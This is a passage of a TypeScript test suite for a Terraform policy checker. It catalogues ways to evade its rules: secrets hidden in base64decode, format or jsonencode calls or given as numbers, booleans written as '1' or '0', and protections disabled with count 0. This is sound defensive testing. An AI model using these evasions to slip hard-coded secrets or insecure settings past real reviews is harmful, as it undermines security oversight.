  });
  test('a suppression with a reason on its construct silences it', () => {
    const suppression: SuppressionRecord = { ruleId: 'GP-TF-003', reason: 'AlloyDB reviewed by the platform team: backups and private IP set', scope: 'payments-prod/payments/prod/db' };
    const evaluation = judge(row, [suppression]);
    expect(at(evaluation.findings, 'google_alloydb_cluster.db')).toEqual([]);
    expect(at(evaluation.suppressed, 'google_alloydb_cluster.db').map((f) => f.rule.id)).toEqual(['GP-TF-003']);
  });
});

// ---------------------------------------------------------------------------------------------------------------
// Secrets inside function calls, encoded documents, or given as numbers.

const secret = (name: string, config: any, address: string): Row => ({ name, rule: 'GP-SEC-001', config, address });
const sqlUser = (password: unknown) => tf({ google_sql_user: { u: { name: 'app', instance: 'db', password } } });
const k8sSecret = (data: Record<string, unknown>) => tf({ kubernetes_secret_v1: { s: { metadata: { name: 'db', namespace: 'payments-dev' }, data } } });
const USER = 'google_sql_user.u';
const SECRET = 'kubernetes_secret_v1.s';

evasions('Secrets: literals inside function calls, documents and numbers', [
  secret('sensitive("...")', sqlUser('${sensitive("hunter2")}'), USER),
  secret('nonsensitive("...")', sqlUser('${nonsensitive("hunter2")}'), USER),
  secret('base64decode("...")', sqlUser('${base64decode("aHVudGVyMg==")}'), USER),
  secret('trimspace(" ... ")', sqlUser('${trimspace(" hunter2 ")}'), USER),
  secret('lower("...")', sqlUser('${lower("HUNTER2")}'), USER),
  secret('format over literals', sqlUser('${format("%s%s", "hun", "ter2")}'), USER),
  secret('join over a literal list', sqlUser('${join("", ["hun", "ter2"])}'), USER),
  secret('a number', sqlUser(12345678), USER),
  secret('tostring of a number', sqlUser('${tostring(12345678)}'), USER),
  secret('a secret attribute holding jsonencode of literals', tf({ google_secret_manager_secret_version: { v: { secret: '${google_secret_manager_secret.s.id}', secret_data: '${jsonencode({ user = "app", pass = "hunter2" })}' } } }), 'google_secret_manager_secret_version.v'),
  secret('jsonencode({ db_password = "..." }) in an ordinary attribute', k8sSecret({ config: '${jsonencode({ db_password = "hunter2", host = "10.0.0.3" })}' }), SECRET),
  secret('jsonencode({ "api_token": "..." }) with quoted keys', k8sSecret({ config: '${jsonencode({ "api_token": "abc123" })}' }), SECRET),
  secret('a JSON document in a literal string', k8sSecret({ 'config.json': JSON.stringify({ database: { password: 'hunter2' } }) }), SECRET),
  secret('an environment variable API_TOKEN given as a number', tf({ kubernetes_deployment_v1: { api: variant(goodDeployment('payments-dev'), (d) => { d.spec.template.spec.container[0].env = [{ name: 'API_TOKEN', value: 123456 }]; }) } }), 'kubernetes_deployment_v1.api'),
  secret('a variable default given as a number', tf({}, { variable: { db_password: { type: 'string', default: 1234 } } }), 'var.db_password'),
  secret('a provider token inside base64decode', tf({}, { provider: { github: [{ owner: 'acme', token: '${base64decode("Z2hwX2xpdGVyYWw=")}' }] } }), 'provider.github'),
], [
  secret('a generated password', sqlUser('${random_password.db.result}'), USER),
  secret('sensitive over a variable', sqlUser('${sensitive(var.db_password)}'), USER),
  secret('a file the runner mounts', sqlUser('${file("/run/secrets/db")}'), USER),
  secret('base64decode of a secret store', sqlUser('${base64decode(data.google_secret_manager_secret_version.v.secret_data)}'), USER),
  secret('jsonencode over variables', k8sSecret({ config: '${jsonencode({ db_password = var.db_password })}' }), SECRET),
  secret('a number under an ordinary name', k8sSecret({ token_ttl: 3600, password_length: 16 }), SECRET),
  secret('a JSON document with no secret key', k8sSecret({ 'config.json': JSON.stringify({ database: { host: '10.0.0.3' } }) }), SECRET),
  secret('a call with no literal in it', sqlUser('${uuid()}'), USER),
]);

// ---------------------------------------------------------------------------------------------------------------
// Terraform's reading of strings as booleans: Terraform converts "true"/"1" to true and "false"/"0" to false for
// a bool argument (cty's string-to-bool conversion, the one tobool applies; a number is refused:
// https://developer.hashicorp.com/terraform/language/functions/tobool), so the rules read them the same way.
// The last describe block checks the conversion with Terraform itself.

const DEPLOYMENT = 'kubernetes_deployment_v1.api';
const INSTANCE = 'google_sql_database_instance.db';

/** A production deployment with its namespace, quota and budget, edited (every rule met before the edit). */
function workload(edit: (d: any) => void = () => undefined, extra: Record<string, Record<string, unknown>> = {}): any {
  return tf({
    kubernetes_namespace_v1: { ns: goodNamespace() },
    kubernetes_resource_quota_v1: { quota: goodQuota() },
    kubernetes_pod_disruption_budget_v1: { pdb: goodPdb() },
    kubernetes_deployment_v1: { api: variant(goodDeployment(), edit) },
    ...extra,
  });
}
const podOf = (d: any) => d.spec.template.spec;
const securityOf = (d: any) => d.spec.template.spec.container[0].security_context;

/** A production Cloud SQL instance that meets every rule, edited. */
function instance(edit: (c: any) => void = () => undefined): any {
  return tf({
    google_sql_database_instance: {
      db: variant({
        name: 'orders-prod',
        database_version: 'POSTGRES_16',
        deletion_protection: true,
        settings: {
          tier: 'db-custom-2-7680',
          availability_type: 'REGIONAL',
          deletion_protection_enabled: true,
          backup_configuration: { enabled: true, point_in_time_recovery_enabled: true },
          ip_configuration: { ipv4_enabled: false, ssl_mode: 'ENCRYPTED_ONLY', private_network: 'projects/acme-net/global/networks/shared' },
        },
      }, edit),
    },
  });
}

/** A private repository with alerts on whose default branch is protected, edited (`count` and such on the protection). */
function protectedRepository(edit: (repository: any, protection: any) => void = () => undefined): any {
  const config = tf({
    github_repository: { shop: { name: 'shop', visibility: 'private', vulnerability_alerts: true } },
    github_branch_protection: {
      main: {
        repository_id: '${github_repository.shop.node_id}',
        pattern: 'main',
        enforce_admins: true,
        required_pull_request_reviews: [{ required_approving_review_count: 1 }],
        required_status_checks: [{ strict: true, contexts: ['ci'] }],
      },
    },
  });
  edit(config.resource.github_repository.shop, config.resource.github_branch_protection.main);
  return config;
}
const REPOSITORY = 'github_repository.shop';

const asBool = (rule: string, name: string, config: any, address: string): Row => ({ name, rule, config, address });

evasions('Terraform\'s reading: strings as booleans', [
  asBool('GP-K8S-004', 'privileged "1"', workload((d) => { securityOf(d).privileged = '1'; }), DEPLOYMENT),
  asBool('GP-K8S-004', 'privileged "1" wrapped in an interpolation', workload((d) => { securityOf(d).privileged = '${"1"}'; }), DEPLOYMENT),
  asBool('GP-K8S-004', 'allow_privilege_escalation "1"', workload((d) => { securityOf(d).allow_privilege_escalation = '1'; }), DEPLOYMENT),
  asBool('GP-K8S-014', 'host_pid "1"', workload((d) => { podOf(d).host_pid = '1'; }), DEPLOYMENT),
  asBool('GP-K8S-014', 'host_network "1"', workload((d) => { podOf(d).host_network = '1'; }), DEPLOYMENT),
  asBool('GP-K8S-014', 'host_ipc "1"', workload((d) => { podOf(d).host_ipc = '1'; }), DEPLOYMENT),
  asBool('GP-K8S-003', 'read_only_root_filesystem "0"', workload((d) => { securityOf(d).read_only_root_filesystem = '0'; }), DEPLOYMENT),
  asBool('GP-K8S-002', 'run_as_non_root "0"', workload((d) => { securityOf(d).run_as_non_root = '0'; }), DEPLOYMENT),
  asBool('GP-GCP-005', 'deletion_protection "0"', instance((c) => { c.deletion_protection = '0'; }), INSTANCE),
  asBool('GP-GCP-005', 'deletion_protection_enabled "0"', instance((c) => { c.settings.deletion_protection_enabled = '0'; }), INSTANCE),
  asBool('GP-GCP-003', 'ipv4_enabled "1"', instance((c) => { c.settings.ip_configuration.ipv4_enabled = '1'; }), INSTANCE),
  asBool('GP-GCP-001', 'backups "0"', instance((c) => { c.settings.backup_configuration.enabled = '0'; }), INSTANCE),
  asBool('GP-GCP-002', 'point_in_time_recovery_enabled "0"', instance((c) => { c.settings.backup_configuration.point_in_time_recovery_enabled = '0'; }), INSTANCE),
  asBool('GP-GCP-009', 'Redis auth_enabled "0"', tf({ google_redis_instance: { cache: { name: 'cache-prod', tier: 'STANDARD_HA', auth_enabled: '0', transit_encryption_mode: 'SERVER_AUTHENTICATION' } } }), 'google_redis_instance.cache'),
  asBool('GP-GH-002', 'vulnerability_alerts "0"', protectedRepository((r) => { r.vulnerability_alerts = '0'; }), REPOSITORY),
  asBool('GP-GH-001', 'private "0" (the older argument) with no visibility', protectedRepository((r) => { delete r.visibility; r.private = '0'; }), REPOSITORY),
], [
  asBool('GP-K8S-004', 'privileged "0", allow_privilege_escalation "false"', workload((d) => { securityOf(d).privileged = '0'; securityOf(d).allow_privilege_escalation = 'false'; }), DEPLOYMENT),
  asBool('GP-K8S-014', 'host_pid "0", host_network "false"', workload((d) => { podOf(d).host_pid = '0'; podOf(d).host_network = 'false'; }), DEPLOYMENT),
  asBool('GP-K8S-003', 'read_only_root_filesystem "1"', workload((d) => { securityOf(d).read_only_root_filesystem = '1'; }), DEPLOYMENT),
  asBool('GP-GCP-005', 'deletion protection "1" and "true"', instance((c) => { c.deletion_protection = '1'; c.settings.deletion_protection_enabled = 'true'; }), INSTANCE),
  asBool('GP-GCP-003', 'ipv4_enabled "0"', instance((c) => { c.settings.ip_configuration.ipv4_enabled = '0'; }), INSTANCE),
  asBool('GP-GH-002', 'vulnerability_alerts "1"', protectedRepository((r) => { r.vulnerability_alerts = '1'; }), REPOSITORY),
]);

// ---------------------------------------------------------------------------------------------------------------
// Resources Terraform never creates are no protection: count 0 (or "0", "${0}", a variable or local whose value is
// 0), for_each over an empty map or set. https://developer.hashicorp.com/terraform/language/meta-arguments/count,
// https://developer.hashicorp.com/terraform/language/meta-arguments/for_each

const PDB_MANIFEST = {
  apiVersion: 'policy/v1',
  kind: 'PodDisruptionBudget',
  metadata: { name: 'api', namespace: 'payments-prod' },
  spec: { maxUnavailable: 1, selector: { matchLabels: { app: 'api' } } },
};
/** The production deployment with its budget given the meta-arguments `meta` (and more configuration). */
const budget = (meta: Record<string, unknown>, extra: Record<string, unknown> = {}) => ({
  ...workload(() => undefined, { kubernetes_pod_disruption_budget_v1: { pdb: { ...goodPdb(), ...meta } } }),
  ...extra,
});
/** The production namespace with its quota given `meta`. */
const quota = (meta: Record<string, unknown>) => tf({
  kubernetes_namespace_v1: { ns: goodNamespace() },
  kubernetes_resource_quota_v1: { quota: { ...goodQuota(), ...meta } },
});
/** A production deployment of 1 replica scaled by an autoscaler (minimum 2) given `meta`. */
const scaled = (meta: Record<string, unknown>) => workload((d) => { d.spec.replicas = 1; }, {
  kubernetes_horizontal_pod_autoscaler_v2: { hpa: { metadata: { name: 'api', namespace: 'payments-prod' }, spec: { min_replicas: 2, max_replicas: 10, scale_target_ref: { kind: 'Deployment', name: 'api' } }, ...meta } },
});
const NAMESPACE = 'kubernetes_namespace_v1.ns';

evasions('Terraform\'s reading: resources Terraform never creates are no protection', [
  { name: 'a production PDB with count 0', rule: 'GP-K8S-011', config: budget({ count: 0 }), address: DEPLOYMENT },
  { name: 'a production PDB with count "0"', rule: 'GP-K8S-011', config: budget({ count: '0' }), address: DEPLOYMENT },
  { name: 'a production PDB with count "${0}"', rule: 'GP-K8S-011', config: budget({ count: '${0}' }), address: DEPLOYMENT },
  { name: 'a production PDB with for_each {}', rule: 'GP-K8S-011', config: budget({ for_each: {} }), address: DEPLOYMENT },
  { name: 'a production PDB with for_each []', rule: 'GP-K8S-011', config: budget({ for_each: [] }), address: DEPLOYMENT },
  { name: 'a production PDB whose count is a variable with default 0', rule: 'GP-K8S-011', config: budget({ count: '${var.budgets}' }, { variable: { budgets: { type: 'number', default: 0 } } }), address: DEPLOYMENT },
  { name: 'a production PDB whose count is a local of 0', rule: 'GP-K8S-011', config: budget({ count: '${local.budgets}' }, { locals: { budgets: 0 } }), address: DEPLOYMENT },
  { name: 'a production PDB whose for_each is a variable with an empty default', rule: 'GP-K8S-011', config: budget({ for_each: '${var.budgets}' }, { variable: { budgets: { type: 'map(string)', default: {} } } }), address: DEPLOYMENT },
  { name: 'a production PDB given as a kubernetes_manifest with count 0', rule: 'GP-K8S-011', config: workload(() => undefined, { kubernetes_pod_disruption_budget_v1: {}, kubernetes_manifest: { pdb: { count: 0, manifest: PDB_MANIFEST } } }), address: DEPLOYMENT },
  { name: 'a production quota with count 0', rule: 'GP-K8S-013', config: quota({ count: 0 }), address: NAMESPACE },
  { name: 'a production quota with for_each {}', rule: 'GP-K8S-013', config: quota({ for_each: {} }), address: NAMESPACE },
  { name: 'a production autoscaler (the workload\'s replicas) with count 0', rule: 'GP-K8S-008', config: scaled({ count: 0 }), address: DEPLOYMENT },
  { name: 'the default branch\'s protection with count 0', rule: 'GP-GH-003', config: protectedRepository((_r, p) => { p.count = 0; }), address: REPOSITORY },
  { name: 'the default branch\'s protection with for_each {}', rule: 'GP-GH-003', config: protectedRepository((_r, p) => { p.for_each = {}; }), address: REPOSITORY },
], [
  { name: 'a production PDB with count 1', rule: 'GP-K8S-011', config: budget({ count: 1 }), address: DEPLOYMENT },
  { name: 'a production PDB whose count is known only at apply', rule: 'GP-K8S-011', config: budget({ count: '${var.budgets}' }), address: DEPLOYMENT },
  { name: 'a production PDB whose count is a variable with default 1', rule: 'GP-K8S-011', config: budget({ count: '${var.budgets}' }, { variable: { budgets: { type: 'number', default: 1 } } }), address: DEPLOYMENT },
  { name: 'a production PDB with for_each over one key', rule: 'GP-K8S-011', config: budget({ for_each: { api: 'api' } }), address: DEPLOYMENT },
  { name: 'the same PDB as a manifest Terraform creates', rule: 'GP-K8S-011', config: workload(() => undefined, { kubernetes_pod_disruption_budget_v1: {}, kubernetes_manifest: { pdb: { manifest: PDB_MANIFEST } } }), address: DEPLOYMENT },
  { name: 'an autoscaler Terraform creates', rule: 'GP-K8S-008', config: scaled({}), address: DEPLOYMENT },
  { name: 'the default branch\'s protection', rule: 'GP-GH-003', config: protectedRepository(), address: REPOSITORY },
]);

describe('Terraform converts these strings to booleans, and refuses numbers (needs terraform on the PATH: install Terraform 1.11+)', () => {
  const terraform = onPath('terraform');
  (terraform ? test : test.skip)('tobool("1"), ("true"), ("0"), ("false"); tobool(1) fails', () => {
    const dir = mkdtempSync(join(tmpdir(), 'terraform-bools-'));
    const env = { ...process.env, TF_CLI_CONFIG_FILE: '/dev/null', CHECKPOINT_DISABLE: '1', TF_IN_AUTOMATION: '1' };
    const console = (expression: string) => execFileSync('terraform', ['console'], { cwd: dir, env, input: `${expression}\n`, encoding: 'utf8', stdio: ['pipe', 'pipe', 'pipe'] }).trim();
    expect(console('jsonencode([tobool("1"), tobool("true"), tobool("0"), tobool("false")])')).toBe('"[true,true,false,false]"');
    expect(() => console('tobool(1)')).toThrow(/cannot convert number to bool/);
  }, 60_000);
});

describe('the types the library makes are known, so its own production stacks need no suppression of GP-TF-003', () => {
  // Every class the seam exports (each loaded from its resource module when read), but data sources and the providers.
  const libraryTypes = ['google', 'kubernetes', 'github'].flatMap((provider) => {
    const seam = jest.requireActual<Record<string, { tfResourceType: string }>>(join(__dirname, '..', '..', 'src', 'private', 'providers', provider));
    return Object.keys(seam)
      .filter((name) => !name.startsWith('Data') && !/^(Github|Google|Kubernetes)Provider$/.test(name))
      .map((name) => seam[name].tfResourceType);
  });

  test('every resource type of src/private/providers/ is known', () => {
    expect(libraryTypes.length).toBeGreaterThan(40);
    expect(libraryTypes.filter((t) => !isKnownResourceType(t))).toEqual([]);
  });
});
